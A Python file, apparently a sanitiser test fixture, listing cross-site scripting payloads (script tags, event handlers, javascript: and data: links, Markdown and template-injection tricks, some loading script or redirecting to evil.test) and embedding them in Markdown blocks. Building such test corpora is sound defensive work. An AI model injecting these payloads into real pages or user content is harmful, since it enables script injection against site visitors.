"""Texts that would run in a page which parsed them as HTML, followed their links, or read their Markdown loosely."""

TEXTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror='alert(1)'/>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    "<form action=javascript:alert(1)><button>click</button></form>",
    "<button onclick=alert(1)>click</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert`1`)",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.test/)",
    '[click](https://example.org/"onmouseover=alert(1)//)',
    "![x](http://evil.test/x.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    '<https://example.org/"><img/src/onerror=alert(1)>>',
    "[1]: javascript:alert(1)",
    "[x][1] [1](javascript:alert(1))",
    "`</code><img src=x onerror=alert(1)>`",
    "**<img src=x onerror=alert(1)>**",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "<!--><img src=x onerror=alert(1)>-->",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
)


def as_markdown() -> str:
    """Each of them as a paragraph, and within every other block."""
    every = "\n\n".join(TEXTS)
    rows = "\n".join(f"| {text.replace('|', '/')} | x |" for text in TEXTS)
    items = "\n".join(f"- {text}" for text in TEXTS)
    quotes = "\n".join(f"> {text}" for text in TEXTS)
    headings = "\n".join(f"## {text}" for text in TEXTS)
    table, code = f"| a | b |\n|---|---|\n{rows}", f"```<img src=x>\n{every}\n```"
    return "\n\n".join((every, table, items, quotes, headings, code))
